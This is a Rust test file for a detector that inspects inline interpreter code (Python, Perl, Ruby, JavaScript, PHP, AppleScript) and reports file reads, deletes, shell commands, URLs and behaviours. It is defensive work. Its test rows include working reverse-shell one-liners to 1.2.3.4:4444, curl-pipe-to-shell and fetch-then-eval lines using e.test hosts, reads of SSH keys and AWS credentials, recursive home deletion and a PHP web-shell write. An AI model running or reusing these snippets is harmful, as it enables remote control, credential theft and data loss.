//! Table-driven tests of inline code analysis: one row per snippet with the findings expected.

use super::Behavior::{Decode, EnvDump, ExecDecoded, ExecRemote, ReverseShell, Socket};
use super::Lang::{AppleScript as As, JavaScript as Js, Perl, Php, Python as Py, Ruby};
use super::*;

/// One expectation on [`Findings`]; the list variants compare the whole list.
enum X {
    /// Exactly these reads.
    R(&'static [&'static str]),
    /// Exactly these writes.
    W(&'static [&'static str]),
    /// Exactly these deletes.
    D(&'static [&'static str]),
    /// Exactly these recursive deletes.
    Rr(&'static [&'static str]),
    /// Exactly these mode changes.
    C(&'static [&'static str]),
    /// Exactly these URLs.
    U(&'static [&'static str]),
    /// Exactly these shell commands.
    S(&'static [&'static str]),
    /// This behavior is present.
    Has(Behavior),
    /// This behavior is absent.
    Not(Behavior),
    /// No behavior at all.
    NoBehavior,
    /// The dynamic flag.
    Dyn(bool),
}
use X::*;

/// Snippets and what must be found.
const CASES: &[(Lang, &str, &[X])] = &[
    // ---- Python: reads and writes
    (Py, "print(open('/home/dev/.ssh/id_ed25519').read())", &[R(&["/home/dev/.ssh/id_ed25519"]), W(&[]), Dyn(false)]),
    (Py, "open('README.md')", &[R(&["README.md"]), W(&[])]),
    (Py, "open('x.txt', 'r').read()", &[R(&["x.txt"])]),
    (Py, "open('out.txt', 'w').write('hi')", &[W(&["out.txt"]), R(&[])]),
    (Py, "open('log', 'a')", &[W(&["log"])]),
    (Py, "open('new', 'x')", &[W(&["new"])]),
    (Py, "open('db', 'r+b')", &[W(&["db"])]),
    (Py, "open('o', mode='wb')", &[W(&["o"])]),
    (Py, "with open('/etc/passwd') as f: print(f.read())", &[R(&["/etc/passwd"])]),
    (Py, "p = '/home/u/.ssh/id_rsa'; open(p)", &[R(&["/home/u/.ssh/id_rsa"]), Dyn(false)]),
    (Py, "p = 'a'\np = 'b'\nopen(p)", &[R(&[]), Dyn(true)]),
    (Py, "open('/etc/' + 'shadow')", &[R(&["/etc/shadow"])]),
    (Py, "import os; open(os.path.join('/etc', 'ssh', 'sshd_config'))", &[R(&["/etc/ssh/sshd_config"])]),
    (Py, "import os; open(os.path.expanduser('~/.netrc'))", &[R(&["~/.netrc"])]),
    (Py, "from pathlib import Path; print((Path('~') / '.ssh' / 'id_rsa').expanduser().read_text())", &[R(&["~/.ssh/id_rsa"])]),
    (Py, "from pathlib import Path; print((Path.home() / '.aws' / 'credentials').read_text())", &[R(&["~/.aws/credentials"])]),
    (Py, "from pathlib import Path; open(Path.home() / '.aws' / 'credentials')", &[R(&["~/.aws/credentials"])]),
    (Py, "import pathlib; pathlib.Path('/tmp/x').write_text('y')", &[W(&["/tmp/x"])]),
    (Py, "import pathlib; pathlib.Path('k').read_bytes()", &[R(&["k"])]),
    (Py, "from pathlib import Path; p = Path('/etc/hosts'); p.read_text()", &[R(&["/etc/hosts"])]),
    (Py, "from pathlib import Path; Path.home().joinpath('.bashrc').write_text('x')", &[W(&["~/.bashrc"])]),
    (Py, "import os; open(os.environ['HOME'] + '/.profile', 'a')", &[W(&["~/.profile"])]),
    (Py, "import os; open(os.getenv('HOME') + '/.zshrc')", &[R(&["~/.zshrc"])]),
    (Py, "open(sys.argv[1])", &[R(&[]), Dyn(true)]),
    (Py, "open(f'/home/{u}/.ssh/id_rsa')", &[R(&[]), Dyn(true)]),
    (Py, "open(r'C:\\x\\y')", &[R(&["C:\\x\\y"])]),
    (Py, "open(\"\"\"/etc/motd\"\"\")", &[R(&["/etc/motd"])]),
    (Py, "import shutil; shutil.copy('/etc/passwd', '/tmp/p')", &[R(&["/etc/passwd"]), W(&["/tmp/p"])]),
    (Py, "import os; os.rename('a.txt', 'b.txt')", &[D(&["a.txt"]), W(&["b.txt"])]),
    (Py, "import os; os.replace('tmp', '/etc/hosts')", &[W(&["/etc/hosts"])]),
    (Py, "print('cat ~/.ssh/id_rsa')", &[R(&[]), S(&[]), NoBehavior]),
    (Py, "x = '~/.ssh/id_rsa'; print(x)", &[R(&[])]),
    // ---- Python: deletes and modes
    (Py, "import shutil; shutil.rmtree(os.path.expanduser('~'))", &[Rr(&["~"])]),
    (Py, "import shutil, os; shutil.rmtree(os.path.expanduser('~'))", &[Rr(&["~"])]),
    (Py, "from shutil import rmtree; rmtree('/var/lib/app')", &[Rr(&["/var/lib/app"])]),
    (Py, "import os; os.remove('/etc/hosts')", &[D(&["/etc/hosts"])]),
    (Py, "import os as o; o.unlink('f')", &[D(&["f"])]),
    (Py, "from os import remove as rm; rm('g')", &[D(&["g"])]),
    (Py, "import os; os.rmdir('d')", &[D(&["d"])]),
    (Py, "from pathlib import Path; Path('/tmp/z').unlink()", &[D(&["/tmp/z"])]),
    (Py, "import os; os.chmod('/usr/bin/x', 0o4755)", &[C(&["/usr/bin/x"])]),
    (Py, "import os; os.chown('/etc/shadow', 0, 0)", &[C(&["/etc/shadow"])]),
    (Py, "import os; os.remove(path)", &[D(&[]), Dyn(true)]),
    // ---- Python: commands
    (Py, "import os;os.system('curl http://x.sh|sh')", &[S(&["curl http://x.sh|sh"]), U(&["http://x.sh"])]),
    (Py, "print(\"rm -rf /\")", &[S(&[]), NoBehavior]),
    (Py, "import subprocess; subprocess.run('ls -la', shell=True)", &[S(&["ls -la"])]),
    (Py, "import subprocess; subprocess.run(['rm', '-rf', 'x'])", &[S(&["rm -rf x"])]),
    (Py, "import subprocess; subprocess.call(['echo', 'a b'])", &[S(&["echo 'a b'"])]),
    (Py, "import subprocess as sp; sp.check_output(['id'])", &[S(&["id"])]),
    (Py, "from subprocess import Popen; Popen(['/bin/bash', '-c', 'id'])", &[S(&["/bin/bash -c id"])]),
    (Py, "import os; print(os.popen('whoami').read())", &[S(&["whoami"])]),
    (Py, "import commands; commands.getoutput('uname -a')", &[S(&["uname -a"])]),
    (Py, "import pty; pty.spawn('/bin/sh')", &[S(&["/bin/sh"])]),
    (Py, "__import__('os').system('id')", &[S(&["id"])]),
    (Py, "from os import system; system('reboot')", &[S(&["reboot"])]),
    (Py, "from os import *; system('halt')", &[S(&["halt"])]),
    (Py, "import os; os.system(cmd)", &[S(&[]), Dyn(true)]),
    (Py, "import os; c = 'rm -rf /tmp/a'; os.system(c)", &[S(&["rm -rf /tmp/a"])]),
    (Py, "import subprocess; subprocess.run(['rm', '-rf', d])", &[S(&["rm -rf"]), Dyn(true)]),
    // ---- Python: behaviors
    (Py, "exec(__import__('urllib.request').request.urlopen('http://e.test/p').read())", &[Has(ExecRemote), Has(Socket), U(&["http://e.test/p"])]),
    (Py, "import urllib.request as u; exec(u.urlopen('https://e.test/x').read())", &[Has(ExecRemote)]),
    (Py, "import requests; exec(requests.get('https://e.test/x').text)", &[Has(ExecRemote)]),
    (Py, "import requests; r = requests.get('https://e.test/x'); exec(r.text)", &[Has(ExecRemote)]),
    (Py, "import requests; requests.get(url)", &[Has(Socket), Not(ExecRemote)]),
    (Py, "import requests; print(requests.get('https://api.test/v1').json())", &[Has(Socket), Not(ExecRemote), U(&["https://api.test/v1"])]),
    (Py, "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))", &[Has(ExecDecoded), Has(Decode)]),
    (Py, "import base64; c = base64.b64decode(s); exec(c)", &[Has(ExecDecoded)]),
    (Py, "exec(bytes.fromhex('7072696e74'))", &[Has(ExecDecoded)]),
    (Py, "import codecs; exec(codecs.decode('cevag', 'rot13'))", &[Has(ExecDecoded)]),
    (Py, "import zlib,base64; exec(zlib.decompress(base64.b64decode('eJw=')))", &[Has(ExecDecoded)]),
    (Py, "import base64; print(base64.b64decode('aGk='))", &[Has(Decode), Not(ExecDecoded)]),
    (Py, "import os,base64; os.system(base64.b64decode('cm0gLXJm').decode())", &[Has(ExecDecoded), Dyn(true)]),
    (Py, "eval('1+1')", &[NoBehavior]),
    (Py, "import socket,subprocess,os;s=socket.socket();s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])", &[Has(ReverseShell), Has(Socket), U(&["tcp://1.2.3.4:4444"]), S(&["/bin/sh -i"])]),
    (Py, "import socket,pty;s=socket.create_connection(('10.0.0.9',9001));pty.spawn('/bin/bash')", &[Has(ReverseShell), U(&["tcp://10.0.0.9:9001"])]),
    (Py, "import socket; s=socket.socket(); s.connect(('db.test', 5432)); s.send(b'x')", &[Has(Socket), Not(ReverseShell), U(&["tcp://db.test:5432"])]),
    (Py, "import sqlite3; sqlite3.connect('app.db')", &[NoBehavior, U(&[])]),
    (Py, "import os; print(os.environ)", &[Has(EnvDump)]),
    (Py, "import os, json; print(json.dumps(dict(os.environ)))", &[Has(EnvDump)]),
    (Py, "import os; e = os.environ.copy()", &[Has(EnvDump)]),
    (Py, "import os\nfor k, v in os.environ.items(): print(k, v)", &[Has(EnvDump)]),
    (Py, "from os import environ; print(environ)", &[Has(EnvDump)]),
    (Py, "import os; print(os.environ.get('HOME'))", &[NoBehavior]),
    (Py, "import os; print(os.environ['PATH'])", &[NoBehavior]),
    (Py, "import os; print('CI' in os.environ)", &[NoBehavior]),
    (Py, "# open('/etc/shadow')\nprint(1)", &[R(&[])]),
    (Py, "s = 'open(\"/etc/shadow\")'", &[R(&[])]),
    // ---- Perl
    (Perl, "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");", &[Has(ReverseShell), U(&["tcp://10.0.0.1:4444"]), S(&["/bin/sh -i"]), R(&[]), W(&[])]),
    (Perl, "print for keys %ENV", &[Has(EnvDump)]),
    (Perl, "print $ENV{HOME}", &[NoBehavior]),
    (Perl, "open(my $f, '<', '/etc/passwd'); print <$f>", &[R(&["/etc/passwd"])]),
    (Perl, "open(F, \">/tmp/out\"); print F 1", &[W(&["/tmp/out"])]),
    (Perl, "open F, '>>', 'log.txt' or die", &[W(&["log.txt"])]),
    (Perl, "open(F, \"/etc/hosts\")", &[R(&["/etc/hosts"])]),
    (Perl, "open(P, \"ls -l |\")", &[S(&["ls -l"])]),
    (Perl, "open(P, '-|', 'id')", &[S(&["id"])]),
    (Perl, "unlink '/tmp/a', '/tmp/b'", &[D(&["/tmp/a", "/tmp/b"])]),
    (Perl, "unlink(\"$ENV{HOME}/.bash_history\")", &[D(&[]), Dyn(true)]),
    (Perl, "use File::Path qw(rmtree); rmtree('/srv/data')", &[Rr(&["/srv/data"])]),
    (Perl, "use File::Path 'remove_tree'; remove_tree(\"build\", \"dist\")", &[Rr(&["build", "dist"])]),
    (Perl, "chmod 0777, '/etc/passwd', '/etc/group'", &[C(&["/etc/passwd", "/etc/group"])]),
    (Perl, "rename 'a', 'b'", &[D(&["a"]), W(&["b"])]),
    (Perl, "system('rm', '-rf', '/tmp/x')", &[S(&["rm -rf /tmp/x"])]),
    (Perl, "system \"curl -s http://e.test | sh\"", &[S(&["curl -s http://e.test | sh"]), U(&["http://e.test"])]),
    (Perl, "my $o = `whoami`; print $o", &[S(&["whoami"])]),
    (Perl, "print qx{uname -a}", &[S(&["uname -a"])]),
    (Perl, "print qx/id/", &[S(&["id"])]),
    (Perl, "print \"system('rm -rf /')\"", &[S(&[])]),
    (Perl, "system(qw(ls -la /))", &[S(&["ls -la /"])]),
    (Perl, "use MIME::Base64; eval(decode_base64('cHJpbnQgMQ=='))", &[Has(ExecDecoded), Has(Decode)]),
    (Perl, "use LWP::Simple; eval(get('http://e.test/x.pl'))", &[Has(ExecRemote), U(&["http://e.test/x.pl"])]),
    (Perl, "use IO::Socket::INET; $s=IO::Socket::INET->new(PeerAddr=>\"1.2.3.4:4444\");", &[Has(Socket), U(&["tcp://1.2.3.4:4444"])]),
    (Perl, "my $p = '/root/.ssh/authorized_keys'; open(my $f, '>>', $p)", &[W(&["/root/.ssh/authorized_keys"])]),
    (Perl, "$x =~ s/open/close/g; print $x", &[R(&[]), S(&[])]),
    (Perl, "while(<>){ print if /system/ }", &[S(&[])]),
    (Perl, "print 'a' . 'b'", &[NoBehavior]),
    // ---- Ruby
    (Ruby, "f=TCPSocket.open(\"1.2.3.4\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)", &[Has(ReverseShell), U(&["tcp://1.2.3.4:4444"]), Dyn(true)]),
    (Ruby, "File.delete(File.expand_path(\"~/.bash_history\"))", &[D(&["~/.bash_history"])]),
    (Ruby, "puts File.read('/etc/passwd')", &[R(&["/etc/passwd"])]),
    (Ruby, "File.write('/tmp/o', 'x')", &[W(&["/tmp/o"])]),
    (Ruby, "File.open('w.txt', 'w') { |f| f.puts 1 }", &[W(&["w.txt"])]),
    (Ruby, "require 'fileutils'; FileUtils.rm_rf('/opt/app')", &[Rr(&["/opt/app"])]),
    (Ruby, "FileUtils.rm_r %w(a b)", &[Rr(&["a", "b"])]),
    (Ruby, "FileUtils.rm ['x', 'y']", &[D(&["x", "y"])]),
    (Ruby, "File.chmod(0755, 'bin/run')", &[C(&["bin/run"])]),
    (Ruby, "system('ls', '-la')", &[S(&["ls -la"])]),
    (Ruby, "system \"rm -rf #{dir}\"", &[S(&[]), Dyn(true)]),
    (Ruby, "puts `id`", &[S(&["id"])]),
    (Ruby, "puts %x(uname -a)", &[S(&["uname -a"])]),
    (Ruby, "puts 'system(\"x\")'", &[S(&[])]),
    (Ruby, "p ENV.to_h", &[Has(EnvDump)]),
    (Ruby, "ENV.each { |k, v| puts k }", &[Has(EnvDump)]),
    (Ruby, "puts ENV['HOME']", &[NoBehavior]),
    (Ruby, "puts ENV.fetch('PATH')", &[NoBehavior]),
    (Ruby, "require 'net/http'; eval(Net::HTTP.get(URI('http://e.test/r.rb')))", &[Has(ExecRemote), Has(Socket)]),
    (Ruby, "require 'base64'; eval(Base64.decode64('cHV0cyAx'))", &[Has(ExecDecoded)]),
    (Ruby, "File.read(File.join(Dir.home, '.ssh', 'id_rsa'))", &[R(&["~/.ssh/id_rsa"])]),
    (Ruby, "IO.popen('ls') { |io| puts io.read }", &[S(&["ls"])]),
    (Ruby, "open('|date')", &[S(&["date"])]),
    (Ruby, "x = 2 / 3 # system('no')", &[S(&[])]),
    // ---- JavaScript
    (Js, "require(\"child_process\").execSync(\"rm -rf ~\")", &[S(&["rm -rf ~"])]),
    (Js, "const cp = require('child_process'); cp.exec('id', (e, o) => console.log(o))", &[S(&["id"])]),
    (Js, "const { execSync } = require('node:child_process'); execSync('whoami')", &[S(&["whoami"])]),
    (Js, "const { exec: run } = require('child_process'); run('ls')", &[S(&["ls"])]),
    (Js, "require('child_process').spawn('rm', ['-rf', '/tmp/x'])", &[S(&["rm -rf /tmp/x"])]),
    (Js, "require('child_process').execSync(`rm -rf ${d}`)", &[S(&[]), Dyn(true)]),
    (Js, "console.log('child_process.execSync(\"rm\")')", &[S(&[])]),
    (Js, "JSON.stringify(process.env)", &[Has(EnvDump)]),
    (Js, "console.log(Object.keys(process.env))", &[Has(EnvDump)]),
    (Js, "console.log(process.env.HOME)", &[NoBehavior]),
    (Js, "const { HOME } = process.env; console.log(HOME)", &[NoBehavior]),
    (Js, "console.log(require('fs').readFileSync('/etc/passwd', 'utf8'))", &[R(&["/etc/passwd"])]),
    (Js, "const fs = require('fs'); fs.writeFileSync('out.json', '{}')", &[W(&["out.json"])]),
    (Js, "const fs = require('fs'); fs.appendFileSync(require('os').homedir() + '/.bashrc', 'x')", &[W(&["~/.bashrc"])]),
    (Js, "const fs = require('fs'), path = require('path'), os = require('os'); fs.readFileSync(path.join(os.homedir(), '.npmrc'))", &[R(&["~/.npmrc"])]),
    (Js, "require('fs').rmSync('/var/x', { recursive: true, force: true })", &[Rr(&["/var/x"]), D(&[])]),
    (Js, "require('fs').rmSync('f.txt')", &[D(&["f.txt"]), Rr(&[])]),
    (Js, "require('fs').unlinkSync('a')", &[D(&["a"])]),
    (Js, "require('fs').chmodSync('s.sh', 0o755)", &[C(&["s.sh"])]),
    (Js, "require('fs').copyFileSync('a', 'b')", &[R(&["a"]), W(&["b"])]),
    (Js, "eval(atob('Y29uc29sZS5sb2coMSk='))", &[Has(ExecDecoded), Has(Decode)]),
    (Js, "eval(Buffer.from('Y29uc29sZQ==', 'base64').toString())", &[Has(ExecDecoded)]),
    (Js, "console.log(Buffer.from('hi').toString())", &[NoBehavior]),
    (Js, "(async () => eval(await (await fetch('https://e.test/x.js')).text()))()", &[Has(ExecRemote), Has(Socket), U(&["https://e.test/x.js"])]),
    (Js, "require('https').get('https://e.test/p', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); })", &[Has(ExecRemote)]),
    (Js, "fetch('https://api.test/x').then(r => r.json()).then(console.log)", &[Has(Socket), Not(ExecRemote)]),
    (Js, "fetch('https://e.test/a.js').then(r => r.text()).then(eval)", &[Has(ExecRemote)]),
    (Js, "eval(require('child_process').execSync('curl -s https://e.test/j').toString())", &[Has(ExecRemote)]),
    (Js, "const x = require('child_process').execSync('git rev-parse HEAD').toString(); console.log(x)", &[Not(ExecRemote)]),
    (Js, "console.log([1, 2].map(String).join(', '))", &[Not(ExecRemote)]),
    (Js, "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = net.connect(4444, '1.2.3.4', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); })", &[Has(ReverseShell), U(&["tcp://1.2.3.4:4444"])]),
    (Js, "const c = new (require('net').Socket)(); c.connect(8080, '10.1.1.1')", &[Has(Socket), U(&["tcp://10.1.1.1:8080"])]),
    (Js, "Deno.readTextFile('/etc/hosts').then(console.log)", &[R(&["/etc/hosts"])]),
    (Js, "await Deno.remove('/tmp/d', { recursive: true })", &[Rr(&["/tmp/d"])]),
    (Js, "console.log(Deno.env.toObject())", &[Has(EnvDump)]),
    (Js, "await Bun.$`rm -rf /tmp/b`", &[S(&["rm -rf /tmp/b"])]),
    (Js, "Bun.spawn(['ls', '-l'])", &[S(&["ls -l"])]),
    (Js, "const x = 10 / 2 / 5; // execSync('no')", &[S(&[]), NoBehavior]),
    (Js, "const r = /execSync\\('x'\\)/; r.test(s)", &[S(&[])]),
    (Js, "import { execSync } from 'child_process'; execSync('date')", &[S(&["date"])]),
    // ---- PHP
    (Php, "$s=fsockopen(\"1.2.3.4\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");", &[Has(ReverseShell), U(&["tcp://1.2.3.4:4444"]), S(&["/bin/sh -i <&3 >&3 2>&3"])]),
    (Php, "echo file_get_contents('/etc/passwd');", &[R(&["/etc/passwd"])]),
    (Php, "eval(file_get_contents('http://e.test/x.txt'));", &[Has(ExecRemote), Has(Socket), R(&[])]),
    (Php, "eval(base64_decode('ZWNobyAxOw=='));", &[Has(ExecDecoded), Has(Decode)]),
    (Php, "eval(gzinflate(base64_decode($p)));", &[Has(ExecDecoded)]),
    (Php, "file_put_contents('/var/www/shell.php', '<?php system($_GET[1]);');", &[W(&["/var/www/shell.php"]), S(&[])]),
    (Php, "unlink('/tmp/x'); rmdir('/tmp/d');", &[D(&["/tmp/x", "/tmp/d"])]),
    (Php, "chmod('/usr/local/bin/t', 0755);", &[C(&["/usr/local/bin/t"])]),
    (Php, "system('id');", &[S(&["id"])]),
    (Php, "echo shell_exec('ls -la');", &[S(&["ls -la"])]),
    (Php, "passthru(\"cat $f\");", &[S(&[]), Dyn(true)]),
    (Php, "echo `whoami`;", &[S(&["whoami"])]),
    (Php, "echo 'system(\"id\")';", &[S(&[])]),
    (Php, "print_r(getenv());", &[Has(EnvDump)]),
    (Php, "echo getenv('HOME');", &[NoBehavior]),
    (Php, "var_dump($_ENV);", &[Has(EnvDump)]),
    (Php, "echo $_SERVER['HOME'];", &[NoBehavior]),
    (Php, "$h = fopen('/etc/crontab', 'a'); fwrite($h, 'x');", &[W(&["/etc/crontab"])]),
    (Php, "$h = fopen('data.csv', 'r');", &[R(&["data.csv"])]),
    (Php, "copy('http://e.test/s.php', 'shell.php');", &[W(&["shell.php"]), U(&["http://e.test/s.php"])]),
    (Php, "include 'http://e.test/evil.php';", &[Has(ExecRemote)]),
    (Php, "file_get_contents(getenv('HOME') . '/.ssh/id_rsa');", &[R(&["~/.ssh/id_rsa"])]),
    (Php, "SYSTEM('uptime');", &[S(&["uptime"])]),
    // ---- AppleScript
    (As, "do shell script \"rm -rf ~/Documents\"", &[S(&["rm -rf ~/Documents"])]),
    (As, "do shell script \"curl -s \" & \"https://e.test/a\"", &[S(&["curl -s https://e.test/a"]), U(&["https://e.test/a"])]),
    (As, "do shell script myCmd", &[S(&[]), Dyn(true)]),
    (As, "display dialog \"do shell script\"", &[S(&[])]),
    (As, "-- do shell script \"rm -rf /\"\ndisplay dialog \"hi\"", &[S(&[])]),
    (As, "(* do shell script \"x\" *) beep", &[S(&[])]),
    (As, "read POSIX file \"/etc/hosts\"", &[R(&["/etc/hosts"])]),
    (As, "tell application \"Finder\" to delete POSIX file \"/Users/me/x\"", &[D(&["/Users/me/x"])]),
    (As, "do shell script \"echo \\\"hi\\\"\" with administrator privileges", &[S(&["echo \"hi\""])]),
];

/// Checks one row, returning a description of each mismatch.
fn check(lang: Lang, code: &str, expect: &[X]) -> Vec<String> {
    let f = analyze(lang, code);
    let mut bad = Vec::new();
    let list = |name: &str, got: &[String], want: &[&str]| {
        (got != want).then(|| format!("{lang:?} `{code}`: {name} = {got:?}, want {want:?}"))
    };
    for x in expect {
        let miss = match x {
            R(w) => list("reads", &f.reads, w),
            W(w) => list("writes", &f.writes, w),
            D(w) => list("deletes", &f.deletes, w),
            Rr(w) => list("recursive_deletes", &f.recursive_deletes, w),
            C(w) => list("chmods", &f.chmods, w),
            U(w) => list("urls", &f.urls, w),
            S(w) => list("shell_commands", &f.shell_commands, w),
            Has(b) => (!f.behaviors.contains(b))
                .then(|| format!("{lang:?} `{code}`: missing {b:?} in {:?}", f.behaviors)),
            Not(b) => f
                .behaviors
                .contains(b)
                .then(|| format!("{lang:?} `{code}`: unexpected {b:?}")),
            NoBehavior => (!f.behaviors.is_empty())
                .then(|| format!("{lang:?} `{code}`: unexpected {:?}", f.behaviors)),
            Dyn(d) => {
                (f.dynamic != *d).then(|| format!("{lang:?} `{code}`: dynamic = {}", f.dynamic))
            }
        };
        bad.extend(miss);
    }
    bad
}

/// Every row of [`CASES`].
#[test]
fn table() {
    assert!(CASES.len() >= 120, "{} cases", CASES.len());
    let bad: Vec<String> = CASES.iter().flat_map(|(l, c, x)| check(*l, c, x)).collect();
    assert!(
        bad.is_empty(),
        "{} of {} rows fail:\n{}",
        bad.len(),
        CASES.len(),
        bad.join("\n")
    );
}

/// Interpreter names map to languages.
#[test]
fn languages() {
    let rows: &[(&str, Option<Lang>)] = &[
        ("python", Some(Py)),
        ("python3", Some(Py)),
        ("python3.12", Some(Py)),
        ("/usr/bin/python3", Some(Py)),
        ("pypy3", Some(Py)),
        ("pythonista", None),
        ("perl", Some(Perl)),
        ("ruby", Some(Ruby)),
        ("node", Some(Js)),
        ("nodejs", Some(Js)),
        ("deno", Some(Js)),
        ("bun", Some(Js)),
        ("php", Some(Php)),
        ("osascript", Some(As)),
        ("bash", None),
    ];
    for (name, want) in rows {
        assert_eq!(lang_of(name), *want, "{name}");
    }
}

/// Which arguments hold inline code.
#[test]
fn code_arguments() {
    let rows: &[(Lang, &str, &[usize])] = &[
        (Py, "-c CODE", &[1]),
        (Py, "-u -c CODE a b", &[2]),
        (Py, "-Bc CODE", &[1]),
        (Py, "-", &[]),
        (Py, "script.py -c x", &[]),
        (Py, "-m http.server", &[]),
        (Py, "-W ignore -c CODE", &[3]),
        (Perl, "-e CODE", &[1]),
        (Perl, "-E CODE", &[1]),
        (Perl, "-ne CODE file", &[1]),
        (Perl, "-lne CODE", &[1]),
        (Perl, "-pe CODE", &[1]),
        (Perl, "-e A -e B", &[1, 3]),
        (Perl, "-Mre CODE", &[]),
        (Perl, "script.pl -e x", &[]),
        (Ruby, "-e CODE", &[1]),
        (Ruby, "-rjson -e CODE", &[2]),
        (Ruby, "-r json -e CODE", &[3]),
        (Ruby, "-ne CODE", &[1]),
        (Js, "-e CODE", &[1]),
        (Js, "-p CODE", &[1]),
        (Js, "--eval CODE", &[1]),
        (Js, "--print CODE", &[1]),
        (Js, "-r dotenv/config -e CODE", &[3]),
        (Js, "app.js -e x", &[]),
        (Js, "eval CODE", &[1]),
        (Js, "eval --ext ts CODE", &[3]),
        (Php, "-r CODE", &[1]),
        (Php, "-d x=1 -r CODE", &[3]),
        (Php, "index.php", &[]),
        (As, "-e A -e B", &[1, 3]),
        (As, "-l JavaScript -e CODE", &[3]),
        (As, "script.scpt", &[]),
    ];
    for (lang, args, want) in rows {
        let args: Vec<String> = args.split_whitespace().map(str::to_owned).collect();
        assert_eq!(inline_code_args(*lang, &args), *want, "{lang:?} {args:?}");
    }
}

/// 64 KiB of nested brackets, quotes and calls in every language: finishes, never panics.
#[test]
fn hostile_input_is_bounded() {
    let langs = [Py, Perl, Ruby, Js, Php, As];
    let pieces = [
        "(".repeat(MAX_INPUT),
        "[{(".repeat(MAX_INPUT / 3),
        "open(".repeat(MAX_INPUT / 5),
        "eval(exec(system(".repeat(MAX_INPUT / 18),
        "'\"`".repeat(MAX_INPUT / 3),
        "a.b().c().d()".repeat(MAX_INPUT / 13),
        "q(".repeat(MAX_INPUT / 2),
        "%w(".repeat(MAX_INPUT / 3),
        "x=open('a')+".repeat(MAX_INPUT / 12),
        "system \"a\" . ".repeat(MAX_INPUT / 14),
        "/*(*\"".repeat(MAX_INPUT / 5),
        "\\".repeat(MAX_INPUT + 10),
        "é(".repeat(MAX_INPUT),
    ];
    for lang in langs {
        for p in &pieces {
            let f = analyze(lang, p);
            for l in [
                &f.reads,
                &f.writes,
                &f.deletes,
                &f.recursive_deletes,
                &f.chmods,
                &f.urls,
                &f.shell_commands,
            ] {
                assert!(l.len() <= MAX_LIST);
            }
        }
    }
}

/// Many distinct findings are capped at [`MAX_LIST`] per list.
#[test]
fn lists_are_capped() {
    let code: String = (0..1000).map(|i| format!("os.remove('f{i}');")).collect();
    let f = analyze(Py, &format!("import os;{code}"));
    assert_eq!(f.deletes.len(), MAX_LIST);
}

/// Pseudo-random bytes never panic any tokenizer or the engine.
#[test]
fn random_bytes_never_panic() {
    let alphabet = b"()[]{}'\"`$@%&#/\\*+-.,;:=<>|!?~ \nabcqwxsyrm_0123456789eopnlEN";
    let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
    for round in 0..300 {
        let len = 1 + (round * 37) % 400;
        let mut s = String::with_capacity(len);
        for _ in 0..len {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            s.push(alphabet[(seed % alphabet.len() as u64) as usize] as char);
        }
        for lang in [Py, Perl, Ruby, Js, Php, As] {
            let _ = analyze(lang, &s);
        }
    }
}
